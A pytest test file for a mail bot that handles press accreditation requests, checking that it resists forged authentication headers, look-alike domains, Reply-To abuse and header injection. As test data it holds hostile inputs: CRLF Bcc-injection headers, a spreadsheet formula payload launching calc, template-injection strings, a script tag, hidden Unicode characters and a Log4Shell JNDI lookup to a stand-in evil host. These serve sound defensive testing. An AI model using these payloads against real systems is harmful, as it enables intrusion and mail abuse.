"""Forged and hostile mails, seen from outside: what goes out, to whom, and what waits for a human."""

from __future__ import annotations

import email
import email.policy
import zipfile
from email.message import EmailMessage
from io import BytesIO
from pathlib import Path

import pytest

from mailbot.digest import words_of, workbook
from mailbot.store import Store
from tests.command import mailbot
from tests.make import at
from tests.office import Office, journalists_mail, text_of
from tests.servers import Human, Sink

REQUEST = (
    "Guten Tag,\n\nich bitte um Akkreditierung für die Konferenz in Kaluga, für den Elbtaler Anzeiger.\n\n"
    "Mit freundlichen Grüßen\nCarla Wiegand\n"
)


def raw_request(*headers: str, text: str = REQUEST, to: str) -> bytes:
    """A mail whose headers stand as given, however wrong they are."""
    given = {line.split(":")[0].lower() for line in headers}
    plain = {
        "received": "Received: from a by b; Thu, 03 Jun 2021 10:00:00 +0200",
        "from": "From: Carla Wiegand <carla@zeitung.example>",
        "to": f"To: {to}",
        "subject": "Subject: Akkreditierung",
        "message-id": "Message-ID: <h@zeitung.example>",
        "content-type": "Content-Type: text/plain; charset=utf-8",
    }
    lines = [line for name, line in plain.items() if name not in given]
    return "\r\n".join([lines[0], *headers, *lines[1:], "", text.replace("\n", "\r\n")]).encode(
        "utf-8", "surrogateescape"
    )


# -- who writes


@pytest.mark.parametrize(
    ("results", "status"),
    [
        ("mx.press.example; dmarc=pass header.from=zeitung.example", "confirmed"),
        ("mx.press.example; dmarc=fail header.from=zeitung.example", "review"),
        ("mx.press.example; spf=fail smtp.mailfrom=carla@zeitung.example", "review"),
        ("mx.evil.example; dmarc=fail header.from=zeitung.example", "confirmed"),
    ],
)
def test_only_our_own_servers_word_counts(tmp_path: Path, human: Human, sink: Sink, results: str, status: str) -> None:
    office = Office(tmp_path, human, sink, {"mailbox.trusted_authserv_id": '"mx.press.example"'})
    human.put(raw_request(f"Authentication-Results: {results}", to=human.address))
    office.round()
    assert office.request()["status"] == status
    assert len(office.letters()) == (status == "confirmed")


def test_a_forged_pass_below_our_servers_fail_does_not_count(tmp_path: Path, human: Human, sink: Sink) -> None:
    office = Office(tmp_path, human, sink, {"mailbox.trusted_authserv_id": '"mx.press.example"'})
    human.put(
        raw_request(
            "Authentication-Results: mx.press.example; dmarc=fail header.from=zeitung.example",
            "Authentication-Results: mx.press.example; dmarc=pass header.from=zeitung.example",
            to=human.address,
        )
    )
    office.round()
    assert office.request()["status"] == "review"


@pytest.mark.parametrize(
    "sender",
    [
        "From: Carla Wiegand <carla@zeitung.example>, Max Fremd <max@elsewhere.example>",
        "From: Carla Wiegand",
        "From: <>",
    ],
)
def test_without_one_senders_address_nobody_is_answered(office: Office, sender: str) -> None:
    office.human.put(raw_request(sender, to=office.human.address))
    office.round()
    assert office.sink.taken == []


@pytest.mark.parametrize(
    ("reply_to", "answered_at"),
    [
        ("desk@zeitung.example", "desk@zeitung.example"),
        ("victim@elsewhere.example", "carla@zeitung.example"),
        ("victim@zeitung.example.evil.example", "carla@zeitung.example"),
    ],
)
def test_reply_to_counts_only_within_the_house(office: Office, reply_to: str, answered_at: str) -> None:
    office.receive(REQUEST, reply_to=reply_to)
    office.round()
    assert [taken.recipient for taken in office.sink.taken] == [answered_at]


def test_a_look_alike_of_a_known_outlets_domain_is_shown_to_the_press_office(office: Office) -> None:
    office.receive(REQUEST, sender="Carla Wiegand <carla@elbtal-anzeiger.example>")
    office.receive(REQUEST.replace("Carla Wiegand", "Otto Falsch"), sender="Otto Falsch <otto@elbtal-anzeigcr.example>")
    office.round()
    assert [taken.recipient for taken in office.sink.taken] == ["carla@elbtal-anzeiger.example"]
    assert office.waiting() == ["SPK21-0002"]
    told = mailbot("--config", office.config.file, "digest", "--text").out
    assert "elbtal-anzeiger.example" in told


# -- what they write into headers


@pytest.mark.parametrize(
    "header",
    [
        "Subject: =?utf-8?q?Akkreditierung=0D=0ABcc:_evil@evil.example=0D=0A=0D=0Aboo?=",
        "Subject: =?utf-8?b?QWtrcmVkaXRpZXJ1bmcNCkJjYzogZXZpbEBldmlsLmV4YW1wbGU=?=",
        "From: =?utf-8?q?Carla=0D=0ABcc:_evil@evil.example?= <carla@zeitung.example>",
        'From: "Carla\\\r\n Bcc: evil@evil.example" <carla@zeitung.example>',
        "Message-ID: <a@b>\r\n =?utf-8?q?=0D=0ABcc:_evil@evil.example?=",
        "Message-ID: <a\x0bBcc:evil@evil.example>",
        "References: <a@b> =?utf-8?q?=0D=0ABcc:_evil@evil.example?= <c@d>",
        "In-Reply-To: <a@b>\r\n\t<c@d>\x00Bcc: evil@evil.example",
        "Reply-To: =?utf-8?q?x=0D=0ABcc:_evil@evil.example?= <desk@zeitung.example>",
    ],
)
def test_no_header_of_theirs_makes_one_of_ours(office: Office, header: str) -> None:
    office.human.put(raw_request(header, to=office.human.address))
    office.round()
    for taken in office.sink.taken:
        assert taken.recipient.endswith("@zeitung.example")
        letter = email.message_from_bytes(taken.raw, policy=email.policy.default)
        assert letter["Bcc"] is None
        assert letter["Cc"] is None
        assert letter["To"].addresses[0].addr_spec == taken.recipient
        assert len(letter["To"].addresses) == 1
        head = taken.raw.split(b"\r\n\r\n")[0]
        assert not any(line.lower().startswith(b"bcc") for line in head.splitlines())
        assert b"\x00" not in taken.raw
        assert b"\x0b" not in head
    assert len(office.requests()) == 1


# -- what they write into names


NAMES = (
    "=cmd|'/c calc'!A1 Wiegand",
    "@SUM(1+9) Wiegand",
    "Carla {{ 7*7 }} Wiegand",
    "Carla {% for x in y %} Wiegand",
    "Carla <script>alert(1)</script> Wiegand",
    "Carla \u202edlrow\u202c Wiegand",
    "Carla \u200b\u200dWie\u00adgand",
    "Carla ${jndi:ldap://evil.example/a} Wiegand",
    "[bold]Carla[/] Wiegand",
)
HIDDEN = set("\u202e\u202c\u200b\u200d")


def test_a_name_is_data_wherever_it_is_put(office: Office) -> None:
    for number, name in enumerate(NAMES):
        told = REQUEST.replace("Carla Wiegand", f"Name: {name}\nMedium: {name} TV")
        sender = f"Carla Wiegand <carla@blatt-{'abcdefghi'[number] * 9}.example>"
        office.human.put(journalists_mail(told, to=office.human.address, sender=sender))
    office.round()
    assert len(office.requests()) == len(NAMES)
    for letter in office.letters():
        html = letter.get_body(("html",))
        assert html is not None
        written = str(html.get_content())
        assert "<script" not in written.casefold()
        assert not HIDDEN & set(text_of(letter) + written + letter["Subject"])
        assert "49" not in text_of(letter).replace("2149", "").replace(office.human.address, "")
    refs = [each["ref"] for each in office.requests()]
    for command in (["list"], ["digest", "--text"], *(["show", ref] for ref in refs[:6])):
        shown = mailbot("--config", office.config.file, *command)
        assert shown.code == 0, shown.err
        assert not HIDDEN & set(shown.out)
    with Store(office.config.store_path) as store:
        sheet = workbook(store.requests.all(), office.config, words_of(office.config), office.now)
    book = zipfile.ZipFile(BytesIO(sheet))
    assert not any(b"<f>" in book.read(each) for each in book.namelist())


def test_a_stranger_in_the_thread_is_told_nothing(office: Office) -> None:
    office.receive(REQUEST)
    office.round()
    letter = office.letter()
    for sender in ("Mallory Fremd <mallory@elsewhere.example>", "Carla Wiegand <carla@zeitung.example.evil.example>"):
        office.answer(
            "Bitte streichen Sie mich von der Liste, ich muss absagen.\n\nCarla Wiegand\n", letter, sender=sender
        )
    office.round()
    assert office.letters() == []
    assert office.requests()[0]["status"] == "confirmed"


def test_two_people_of_a_freemail_house_are_strangers(office: Office) -> None:
    office.receive(REQUEST, sender="Carla Wiegand <carla.wiegand@gmx.de>")
    office.round()
    letter: EmailMessage = office.letter()
    office.answer("Ich muss leider absagen.\n\nCarla Wiegand\n", letter, sender="Carla Wiegand <c-wiegand@gmx.de>")
    office.now = at("06-03 11:00")
    office.round()
    assert office.letters() == []
    assert office.requests()[0]["status"] == "confirmed"
